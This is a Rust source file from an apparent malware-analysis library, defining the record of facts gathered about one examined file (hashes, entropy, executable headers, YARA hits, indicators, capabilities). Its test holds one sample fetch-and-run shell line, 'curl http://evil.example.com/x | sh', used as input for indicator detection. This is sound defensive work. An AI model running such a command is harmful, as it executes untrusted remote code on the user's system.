//! Everything that is told about one file.

use std::collections::{BTreeMap, BTreeSet};

use malkin_report::{Budget, Report};
use serde::{Deserialize, Serialize};

use crate::capability::{Capability, capabilities};
use crate::entropy::{Profile, entropy, profile, round};
use crate::finding::{Finding, findings};
use crate::hashes::{Hashes, hashes};
use crate::ioc::{Indicator, indicators};
use crate::kind::kind;
use crate::native::{self, Native};
use crate::pe::{self, Pe, Section};
use crate::stack::{StackText, stack_texts};
use crate::strings::{MAX_STRINGS, Text, strings};
use crate::yara::{Hit, Rules};

/// Version of this layout; it grows when a member changes its meaning.
pub const VERSION: u32 = 1;
/// Units of work that each byte of any file costs, parts and texts aside.
const WORK_PER_BYTE: u64 = 8;
/// Texts that are kept in a record.
const MAX_KEPT_STRINGS: usize = 2000;

/// What is wanted beyond the bytes.
#[derive(Clone, Copy, Debug, Default)]
pub struct Options<'a> {
    /// The disassembly, if there is one: capabilities then name the functions that show them.
    pub report: Option<&'a Report>,
    /// The present in seconds since 1970, for judging timestamps.
    pub now: Option<i64>,
    /// YARA rules to run.
    pub rules: Option<&'a Rules>,
    /// What the examination may use; without it as much as a file of its size may.
    pub budget: Option<&'a Budget<'a>>,
}

/// What a file is.
#[derive(Clone, PartialEq, Debug, Default, Serialize, Deserialize)]
pub struct Facts {
    /// Version of the layout.
    pub version: u32,
    /// Size in bytes.
    pub size: usize,
    /// Kind of file in a word: `pe`, `elf`, `macho`, `zip`, `pdf`, `text`, `data` and the like.
    pub kind: String,
    /// Hashes of the whole file.
    pub hashes: Hashes,
    /// Entropy of the whole file, bits a byte.
    pub entropy: f64,
    /// Entropy along the file.
    pub entropy_profile: Profile,
    /// Facts of a PE.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub pe: Option<Pe>,
    /// Facts of an ELF or Mach-O.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub native: Option<Native>,
    /// Packers and anomalies.
    pub findings: Vec<Finding>,
    /// What it can do.
    pub capabilities: Vec<Capability>,
    /// YARA rules that matched.
    #[serde(default)]
    pub yara: Vec<Hit>,
    /// Indicators in its texts.
    pub indicators: Vec<Indicator>,
    /// Number of its texts.
    pub num_strings: usize,
    /// The first of them.
    pub strings: Vec<Text>,
    /// Texts that its code puts together on the stack.
    #[serde(default)]
    pub stack_strings: Vec<StackText>,
    /// Parts that could not be read, with the cause.
    pub unread: Vec<String>,
}

/// Looks at a file.
pub fn examine(bytes: &[u8], options: &Options<'_>) -> Facts {
    let mut unread = Vec::new();
    let kind = kind(bytes);
    let own = Budget::for_size(bytes.len());
    let budget = options.budget.unwrap_or(&own);
    // Hashes, entropy, texts and marks: each looks at every byte once or a few times.
    budget.work((bytes.len() as u64).saturating_mul(WORK_PER_BYTE));
    let mut texts = strings(bytes);
    if texts.len() >= MAX_STRINGS {
        unread.push(format!("strings: only the first {MAX_STRINGS} texts are looked at"));
    }
    let mut facts = Facts {
        version: VERSION,
        size: bytes.len(),
        kind: kind.to_owned(),
        hashes: hashes(bytes),
        entropy: round(entropy(bytes)),
        entropy_profile: profile(bytes),
        pe: (kind == "pe").then(|| pe::read(bytes, budget, &mut unread)).flatten(),
        native: matches!(kind, "elf" | "macho").then(|| native::read(bytes, budget, &mut unread)).flatten(),
        num_strings: texts.len(),
        stack_strings: options.report.map(stack_texts).unwrap_or_default(),
        ..Facts::default()
    };
    // Indicators in texts of the stack stand at the code that writes them.
    let base = options.report.and_then(|report| report.base_addr).unwrap_or_default();
    texts.extend(facts.stack_strings.iter().map(|text| Text {
        offset: facts.offset_of(text.address, base).unwrap_or_default(),
        encoding: text.encoding,
        text: text.text.clone(),
    }));
    facts.indicators = indicators(&texts, budget);
    texts.truncate(facts.num_strings);
    facts.findings = findings(&facts, bytes, options.now);
    facts.capabilities = capabilities(&apis(&facts, options.report));
    if let Some(rules) = options.rules.filter(|_| budget.poll()) {
        let (hits, failure) = rules.scan(bytes);
        facts.yara = hits;
        unread.extend(failure.map(|cause| format!("yara: {cause}")));
    }
    facts.strings = texts.into_iter().take(MAX_KEPT_STRINGS).collect();
    if let Some(ended) = budget.ended() {
        unread.push(format!("budget: the examination ended early: {ended}"));
    }
    facts.unread = unread;
    facts
}

impl Facts {
    /// Offset in the file of an address in the image that is mapped at `base`; none if no section holds it.
    fn offset_of(&self, address: u64, base: u64) -> Option<usize> {
        let (sections, start) = match (&self.pe, &self.native) {
            // Sections of a PE are relative to the image.
            (Some(pe), _) => (&pe.sections, address.checked_sub(base)?),
            (None, Some(native)) => (&native.sections, address),
            (None, None) => return None,
        };
        let within = |section: &&Section| {
            section.size > 0 && start.checked_sub(section.address).is_some_and(|at| at < section.size)
        };
        let section = sections.iter().find(within)?;
        usize::try_from(section.offset.checked_add(start - section.address)?).ok()
    }
}

/// Functions of the system by name with the addresses of the functions that call them.
fn apis(facts: &Facts, report: Option<&Report>) -> BTreeMap<String, BTreeSet<u64>> {
    let mut apis: BTreeMap<String, BTreeSet<u64>> = BTreeMap::new();
    let libraries = facts
        .pe
        .iter()
        .flat_map(|pe| &pe.libraries)
        .chain(facts.native.iter().flat_map(|file| &file.libraries));
    for name in libraries.flat_map(|library| &library.functions) {
        apis.entry(name.clone()).or_default();
    }
    for function in report.iter().flat_map(|report| &report.functions) {
        for (_, api) in &function.apirefs {
            let name = api.rsplit('!').next().unwrap_or(api);
            apis.entry(name.to_owned()).or_default().insert(function.offset.get());
        }
    }
    apis
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_record_survives_writing_and_reading() {
        let facts = examine(b"#!/bin/sh\ncurl http://evil.example.com/x | sh\n", &Options::default());
        assert_eq!(facts.kind, "script");
        assert!(facts.indicators.iter().any(|indicator| indicator.value == "http://evil.example.com/x"));
        let text = serde_json::to_string(&facts).unwrap();
        assert_eq!(serde_json::from_str::<Facts>(&text).unwrap(), facts);
    }

    proptest::proptest! {
        #[test]
        fn any_bytes_are_examined(head in proptest::sample::select(vec![&b"MZ"[..], b"\x7fELF", b"\xcf\xfa\xed\xfe", b""]),
                                  rest in proptest::collection::vec(proptest::num::u8::ANY, 0..600)) {
            examine(&[head, &rest].concat(), &Options::default());
        }
    }
}
